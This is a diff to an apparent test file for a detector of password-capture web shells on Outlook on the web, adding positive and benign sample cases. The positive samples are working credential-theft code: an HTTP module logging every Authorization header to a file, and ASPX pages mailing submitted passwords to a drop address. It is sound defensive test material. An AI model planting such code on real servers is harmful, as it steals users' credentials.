@@ -1,8 +1,10 @@
 """A password the user submits, written down or sent on (EXH-WS-CODE-CREDENTIAL-CAPTURE): the
 sign-in trap of a modified logon page, a Global.asax or an HTTP module reading the password field
-of every request to Outlook on the web. Kept quiet: an installer writing the database password it
-is given into web.config, a login page logging only the user name, checking the password, or a
-web service tracing its arguments to the debugger."""
+of every request to Outlook on the web, the Basic sign-in header (`Authorization`) written down,
+or the password mailed to an address the code fixes. Kept quiet: an installer writing the database
+password it is given into web.config, a login page logging only the user name, checking the
+password, a web service tracing its arguments to the debugger, or a welcome mail sending users
+their password at the address they gave."""
 
 from __future__ import annotations
 
@@ -59,6 +61,32 @@ SHELLS = [
         ["form field 'password'", ".DownloadString"],
     ),
     (
+        "basic-header.cs",
+        "using System; using System.Web;\n"
+        "public class EwsModule : IHttpModule {\n"
+        "  public void Init(HttpApplication app) { app.BeginRequest += (s, e) => {\n"
+        '    var h = app.Context.Request.Headers["Authorization"];\n'
+        '    if (h != null) System.IO.File.AppendAllText(@"C:\\ProgramData\\e.dat", h + "\\n"); }; }\n'
+        "  public void Dispose() {}\n}\n",
+        ["request header 'Authorization'", "File.AppendAllText"],
+    ),
+    (
+        "mailed.aspx",
+        cs_page(
+            'new System.Net.Mail.SmtpClient("localhost").Send("owa@contoso.com", "drop@example.net", "s", '
+            'Request.Form["username"] + ":" + Request.Form["password"]);'
+        ),
+        ["form field 'password'", "SmtpClient.Send"],
+    ),
+    (
+        "mailed-message.aspx",
+        cs_page(
+            'var m = new System.Net.Mail.MailMessage("owa@contoso.com", "drop@example.net", "s", Request.Form["password"]);\n'
+            "new System.Net.Mail.SmtpClient().Send(m);"
+        ),
+        ["form field 'password'", "new MailMessage"],
+    ),
+    (
         "logon.vb.aspx",
         vb_page('System.IO.File.AppendAllText("c:\\temp\\a.txt", Request.Form("user") & ":" & Request.Form("passwd"))'),
         ["form field 'passwd'", SENT],
@@ -92,6 +120,16 @@ BENIGN = [
             'if (Membership.ValidateUser(Request.Form["user"], Request.Form["password"])) '
             '{ FormsAuthentication.RedirectFromLoginPage(Request.Form["user"], false); }'
         ),
+    ),
+    (
+        "register.aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        "void Register(object s, EventArgs e) {\n"
+        '  var m = new System.Net.Mail.MailMessage("noreply@contoso.com", txtEmail.Text, "Welcome", '
+        '"Your password is " + txtPassword.Text);\n'
+        "  new System.Net.Mail.SmtpClient().Send(m);\n"
+        '}\n</script>\n<form runat="server"><asp:TextBox id="txtEmail" runat="server"/>'
+        '<asp:TextBox id="txtPassword" TextMode="Password" runat="server"/></form>',
     ),
     (
         "Service.cs",
